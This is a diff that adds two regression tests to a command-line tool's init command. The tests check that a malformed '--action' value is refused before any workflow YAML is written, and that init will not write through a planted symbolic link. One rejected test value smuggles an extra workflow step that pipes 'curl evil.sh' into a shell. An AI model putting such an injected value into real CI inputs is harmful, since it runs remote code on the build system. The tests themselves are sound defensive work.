@@ -53,3 +53,42 @@ def test_the_pr_workflow_collects_the_golden_tests_a_project_has(
     again = runner.invoke(main, ["init", "--workflows", "--force"])
     assert again.exit_code == 0, again.output
     assert "          paths: suites tests\n" in workflow.read_text()
+
+
+def test_an_action_that_is_not_a_reference_is_refused_before_anything_is_written(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """``--action`` is written into the workflows' YAML: a newline in it added steps of the
+    caller's choosing (issue 53, row 12)."""
+    monkeypatch.chdir(tmp_path)
+    for bad in ("a/b@main\n      - run: curl evil.sh | sh", "not a ref", "a/b", "a/b@x y"):
+        result = CliRunner().invoke(main, ["init", "--action", bad])
+        assert result.exit_code == 2, (bad, result.output)
+        assert "is not an action reference" in result.output
+    assert list(tmp_path.iterdir()) == []
+    for good in (PIN, "./.github/actions/evalrunner", "o/r/sub/path@v1.2"):
+        assert (
+            CliRunner().invoke(main, ["init", "--workflows", "--force", "--action", good]).exit_code
+            == 0
+        )
+
+
+def test_init_writes_through_no_link_and_says_when_a_folder_is_a_file(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """``init --force`` over a planted symbolic link overwrote the file it points to; a
+    ``suites`` or ``.github`` that is a file gave a traceback (issue 53, row 12)."""
+    project, elsewhere = tmp_path / "project", tmp_path / "elsewhere.txt"
+    project.mkdir()
+    elsewhere.write_text("precious\n")
+    monkeypatch.chdir(project)
+    (project / "evalrunner_agent.py").symlink_to(elsewhere)
+    linked = CliRunner().invoke(main, ["init", "--force"])
+    assert linked.exit_code == 2 and "evalrunner_agent.py is a symbolic link" in linked.output
+    assert elsewhere.read_text() == "precious\n" and not (project / "suites").exists()
+    (project / "evalrunner_agent.py").unlink()
+    (project / ".github").write_text("not a folder\n")
+    blocked = CliRunner().invoke(main, ["init"])
+    assert blocked.exit_code == 2, blocked.output
+    assert ".github is a file where init needs a folder" in blocked.output
+    assert "Traceback" not in blocked.output and not (project / "suites").exists()
